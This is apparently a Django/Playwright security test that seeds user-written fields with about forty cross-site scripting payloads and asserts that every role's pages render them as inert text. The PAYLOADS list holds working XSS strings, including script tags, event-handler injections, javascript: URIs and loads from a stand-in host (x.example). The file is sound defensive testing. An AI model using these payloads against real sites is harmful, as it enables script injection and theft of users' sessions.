"""Nothing that a person wrote becomes markup or script in the browser (security T17).

Every text of plantel A's people holds as many of the payloads as it has room for, each field beginning with another
one; then each role walks through all of its pages. A dialog, an element with a handler, a foreign script or a
complaint of the CSP fails the test: the last one is the second wall, and it must never be reached.
"""

from itertools import count
from typing import Any

import pytest
from django.apps import apps
from django.db import models
from playwright.sync_api import Page

from tests.browser.conftest import go, looks_in
from tests.project.access_matrix import PAGES
from tests.project.test_access_matrix import path_of
from tests.project.test_canaries import QUERIES, TO_PLANTEL, holds_words
from tests.project.test_xss_csp import KEYS
from tests.project.world import World, build

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//x.example/x.js></script>",
    "</script><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "</style><script>alert(7)</script>",
    "--><script>alert(8)</script>",
    "<img src=x onerror=alert(9)>",
    "<img/src=x/onerror=alert`10`>",
    '"><img src=x onerror=alert(11)>',
    "'><img src=x onerror=alert(12)>",
    "<svg onload=alert(13)>",
    "<svg/onload=alert(14)//",
    "<svg><script>alert(15)</script>",
    "<svg><a href=javascript:alert(16)><text>x",
    "<body onload=alert(17)>",
    "<iframe src=javascript:alert(18)>",
    "<iframe srcdoc='<script>alert(19)</script>'>",
    "<details open ontoggle=alert(20)>",
    "<input autofocus onfocus=alert(21)>",
    "<video src=x onerror=alert(22)>",
    "<audio src=x onerror=alert(23)>",
    "<object data=javascript:alert(24)>",
    "<embed src=javascript:alert(25)>",
    "<form action=javascript:alert(26)><button>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<style>@import'//x.example/x.css'</style>",
    '" onmouseover="alert(31)" x="',
    "' onfocus='alert(32)' autofocus='",
    '" autofocus onfocus=alert(33) x="',
    "` onclick=alert(34) `",
    "javascript:alert(35)",
    "data:text/html,<script>alert(36)</script>",
    "{{ 7|add:7 }}{% debug %}",
    "${alert(38)}",
    '" hx-on:load="alert(39)" hx-get="//x.example',
    "&lt;script&gt;alert(40)&lt;/script&gt;\u2028<!--",
)
ROLES = ("AL", "RP", "CO", "AD+")

FILES = ("students:file", "followup:oficio_list")
HARM = """() => {
  const handled = [...document.querySelectorAll("*")].filter((node) =>
    [...node.attributes].some((each) => each.name.startsWith("on") || each.name.startsWith("hx-on")));
  const foreign = document.querySelectorAll(
    "script:not([src^='/static/']):not([type='application/json']), iframe, object, embed, base, " +
    "meta[http-equiv], style:not([data-own]), [href^='javascript:' i], [action^='javascript:' i], img[src='x']");
  return [...handled, ...foreign].map((node) => node.outerHTML.slice(0, 160));
}"""

TYPE = """([form, payload]) => {
  form.noValidate = true;
  for (const field of form.querySelectorAll("input, textarea")) {
    if (["text", "email", "search", "tel", "textarea", "password"].includes(field.type)) field.value = payload;
  }
  form.requestSubmit(form.querySelector(".btn-primary[type=submit]"));
}"""


@pytest.fixture
def dialogs() -> list[str]:
    return []


def watched(page: Page, dialogs: list[str]) -> Page:
    """Write down each dialog and go on."""

    def close(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", close)
    return page


def fill_with_payloads(world: World) -> None:
    """Put payloads into every text of plantel A's people that a person may have written."""
    starts = count()
    for label, path in TO_PLANTEL.items():
        model = apps.get_model(label)
        fields = [
            one
            for one in model._meta.concrete_fields
            if holds_words(one) and not one.unique and one.name not in KEYS
        ]
        for row in model.objects.filter(**{path: world.plantel_a}):
            values = {
                one.name: _filled(getattr(row, one.name), one, next(starts)) for one in fields
            }
            if "matricula" in values:  # once in each plantel
                values["matricula"] = f"{row.pk}{values['matricula']}"[:20]
            model.objects.filter(pk=row.pk).update(**values)


def _filled(value: Any, one: models.Field, start: int) -> Any:
    if isinstance(value, dict):
        return {
            key: each if key in KEYS else _filled(each, one, start + place)
            for place, (key, each) in enumerate(value.items())
        }
    if isinstance(value, list):
        return [_filled(each, one, start + place) for place, each in enumerate(value)]
    return payloads_from(start, one.max_length or 1500) if isinstance(value, str) else value


def payloads_from(start: int, room: int) -> str:
    """Return as many payloads as there is room for, from that one on."""
    start %= len(PAYLOADS)
    text = ""
    for payload in (*PAYLOADS[start:], *PAYLOADS[:start]):
        if len(text) + len(payload) <= room:
            text += payload
    return text or PAYLOADS[start][:room]


@pytest.mark.parametrize("role", ROLES)
def test_what_people_wrote_stays_text(
    open_page, transactional_db, live_server, own_folders, dialogs, role
):
    world = build(own_folders / "files")
    fill_with_payloads(world)
    page = watched(open_page(1280, 800), dialogs)
    page.context.add_cookies(
        [{"name": n, "value": v, "url": live_server.url} for n, v in world.cookies[role].items()]
    )
    harm, shown = [], 0
    for each in PAGES:
        answers = each.answers.get(("GET", "own")) or each.answers.get(("GET", "-")) or {}
        if answers.get(role) != "200" or each.name in FILES or "download" in each.name:
            continue
        for query in ("", *QUERIES.get(each.name, ())):
            page.goto(f"{path_of(each, 'own', world)}?{query}")
            harm += [f"{each.name}: {found}" for found in page.evaluate(HARM)]
            shown += "alert(" in page.content()

    assert (harm, dialogs) == ([], [])
    assert shown > 3


@pytest.mark.parametrize("scene_name", ["visitor", "S-00", "S-01", "without CURP", "responsable"])
def test_what_is_typed_wrongly_comes_back_as_text(open_page, enter, dialogs, scene_name):
    page = watched(open_page(1280, 800), dialogs)
    scene = enter(page, scene_name)
    harm, kinds = [], count()
    for look in (look for look in looks_in(scene_name) if look.wrong):
        go(page, look, scene)
        form = page.query_selector(look.wrong[0].form)
        assert form, f"{look} has no {look.wrong[0].form}"
        with page.expect_navigation():
            page.evaluate(TYPE, [form, payloads_from(next(kinds) * 7, 300)])
        harm += [f"{look}: {found}" for found in page.evaluate(HARM)]

    assert (harm, dialogs) == ([], [])
